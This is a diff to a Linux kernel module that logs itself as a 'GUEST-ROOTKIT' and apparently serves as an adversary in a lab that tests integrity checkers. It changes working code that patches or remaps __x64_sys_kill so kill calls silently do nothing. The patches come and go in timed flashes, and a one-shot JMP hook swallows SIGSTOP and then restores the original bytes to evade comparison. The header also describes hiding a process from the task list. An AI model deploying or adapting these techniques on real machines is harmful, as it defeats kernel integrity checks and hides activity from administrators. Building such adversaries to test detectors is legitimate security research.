@@ -28,16 +28,17 @@
  *   loop S  put the inline patch back every millisecond for S seconds from a kernel thread
  *           (g: a hook re-applied while an operation runs)
  *   flash S for S seconds, a kernel thread patches __x64_sys_kill (after its ENDBR: "xor
- *           eax, eax; ret") for 4-5 ms, then puts the original back for 0.3-0.5 ms, and
+ *           eax, eax; ret") for 8-9 ms, then puts the original back for 0.2-0.3 ms, and
  *           again: a kill meanwhile most likely returns 0 and does nothing, while the text
  *           is often as it was when someone compares it (a hook put in and taken out)
  *   remap S the same with the mapping instead of the text: for S seconds, a kernel thread
  *           points the page-table entry that maps __x64_sys_kill (a 2 MiB or 4 KiB leaf) at
- *           a copy with that patch for 4-5 ms, then back for 0.3-0.5 ms, and again
+ *           a copy with that patch for 8-9 ms, then back for 0.2-0.3 ms, and again
  *   oneshot S  for S seconds, a kernel thread keeps a one-shot hook on __x64_sys_kill: a
- *           JMP to the module's stub in place of the ftrace call site; the first kill
- *           through it puts the original bytes back and returns 0 without doing anything,
- *           so right after that call the text is as it was. The thread arms it again
+ *           JMP to the module's stub in place of the ftrace call site; the first
+ *           kill(SIGSTOP) through it puts the original bytes back and returns 0 without
+ *           doing anything, so right after that call the text is as it was (other signals
+ *           go through). The thread arms it again
  *           within 1-2 ms when a check took it out, 200 ms after a call did
  *   hide N  take process N off the tasks list (f): list_del_init under tasklist_lock, so its
  *           exit later unlinks nothing and the kernel stays sound; /proc (the pid IDR)
@@ -389,9 +390,9 @@ static int flash_fn(void *data)
 	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
 		if (write_text(at, ret0, sizeof(ret0)) == 0)
 			flashes++;
-		usleep_range(4000, 5000);
+		usleep_range(8000, 9000);
 		write_text(at, saved, sizeof(saved));
-		usleep_range(300, 500);
+		usleep_range(200, 300);
 	}
 	pr_notice("GUEST-ROOTKIT flash-done flashes=%lu\n", flashes);
 	return 0;
@@ -424,10 +425,10 @@ static int remap_fn(void *data)
 			if (store8_safe(entry, moved) == 0)
 				flips++;
 			flush_all();
-			usleep_range(4000, 5000);
+			usleep_range(8000, 9000);
 			store8_safe(entry, orig);
 			flush_all();
-			usleep_range(300, 500);
+			usleep_range(200, 300);
 		}
 		__free_pages(copy, get_order(size));
 	}
@@ -439,18 +440,30 @@ static int remap_fn(void *data)
 static u8 *oneshot_at, oneshot_saved[5];
 static unsigned long oneshot_fired; /* jiffies of the last call through the hook */
 
+static u8 oneshot_jmp[5] = {0xe9};
+
+/* Only SIGSTOP is swallowed (the lab's checker sends itself other signals all the time):
+ * any other kill runs the real function between putting the bytes back and the JMP again */
 static long oneshot_kill(const struct pt_regs *regs)
 {
-	if (oneshot_at)
-		write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
-	WRITE_ONCE(oneshot_fired, jiffies);
-	return 0;
+	long (*real)(const struct pt_regs *) =
+		(void *)(oneshot_at - (oneshot_at[-4] == 0xf3 ? 4 : 0));
+	long rc = 0;
+
+	write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
+	if (regs->si == SIGSTOP) {
+		WRITE_ONCE(oneshot_fired, jiffies);
+		return 0;
+	}
+	rc = real(regs);
+	write_text(oneshot_at, oneshot_jmp, sizeof(oneshot_jmp));
+	return rc;
 }
 
 static int oneshot_fn(void *data)
 {
 	unsigned long arms = 0;
-	u8 jmp[5] = {0xe9};
+	u8 *jmp = oneshot_jmp;
 
 	oneshot_at = after_endbr("__x64_sys_kill");
 	memcpy(oneshot_saved, oneshot_at, sizeof(oneshot_saved));
@@ -459,13 +472,13 @@ static int oneshot_fn(void *data)
 		/* armed: the JMP is there. Taken out by a check: armed again at once; taken out by
 		 * its own call: only after 200 ms, so whoever looks right after that call finds
 		 * the text as it was */
-		if (memcmp(oneshot_at, jmp, sizeof(jmp)) != 0 &&
+		if (memcmp(oneshot_at, jmp, sizeof(oneshot_jmp)) != 0 &&
 		    time_after(jiffies, READ_ONCE(oneshot_fired) + HZ / 5) &&
-		    write_text(oneshot_at, jmp, sizeof(jmp)) == 0)
+		    write_text(oneshot_at, jmp, sizeof(oneshot_jmp)) == 0)
 			arms++;
 		usleep_range(1000, 2000);
 	}
-	if (memcmp(oneshot_at, jmp, sizeof(jmp)) == 0)
+	if (memcmp(oneshot_at, jmp, sizeof(oneshot_jmp)) == 0)
 		write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
 	pr_notice("GUEST-ROOTKIT oneshot-done arms=%lu\n", arms);
 	return 0;
